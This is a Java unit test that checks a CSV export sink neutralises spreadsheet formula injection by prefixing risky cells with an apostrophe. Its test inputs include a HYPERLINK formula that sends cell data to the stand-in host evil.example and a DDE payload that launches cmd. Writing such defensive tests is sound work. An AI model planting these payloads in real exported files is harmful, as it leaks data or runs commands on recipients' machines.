package dev.lethe.requests;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lethe.values.Sensitive;
import java.io.ByteArrayOutputStream;
import java.util.LinkedHashMap;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * CSV formula injection: a value a spreadsheet would run as a formula when the person opens their
 * package ({@code =}, {@code +}, {@code -}, {@code @}, tab, carriage return first) is written
 * with a leading {@code '}; other values, and the counts Lethe writes, are written as they are.
 */
class CsvPackageSinkTest {

    static final PackageKind KIND = new PackageKind("values", "Values", false, List.of("field", "value", "count"));

    @Test
    void aCellThatASpreadsheetWouldRunAsAFormulaIsMadeInert() throws Exception {
        var bytes = new ByteArrayOutputStream();
        try (var sink = new CsvPackageSink(bytes)) {
            sink.startKind(KIND);
            for (String hostile : List.of(
                    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                    "+1+cmd|' /C calc'!A0",
                    "-2+3",
                    "@SUM(A1:A9)",
                    "\tTAB",
                    "\rCR")) {
                var record = new LinkedHashMap<String, Object>();
                record.put("field", "traits.note");
                record.put("value", new Sensitive(hostile));
                record.put("count", -1L);
                sink.record(record);
            }
            var plain = new LinkedHashMap<String, Object>();
            plain.put("field", "traits.name");
            plain.put("value", "Zebulon = Quirk");
            plain.put("count", 3);
            sink.record(plain);
            sink.endKind();
        }

        var csv = AccessPackageApiTest.unzip(bytes.toByteArray()).get("values.csv");

        assertThat(csv.split("\r\n", -1))
                .containsExactly(
                        "field,value,count",
                        "traits.note,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",-1",
                        "traits.note,'+1+cmd|' /C calc'!A0,-1",
                        "traits.note,'-2+3,-1",
                        "traits.note,'@SUM(A1:A9),-1",
                        "traits.note,'\tTAB,-1",
                        "traits.note,\"'\rCR\",-1",
                        "traits.name,Zebulon = Quirk,3",
                        "");
    }
}
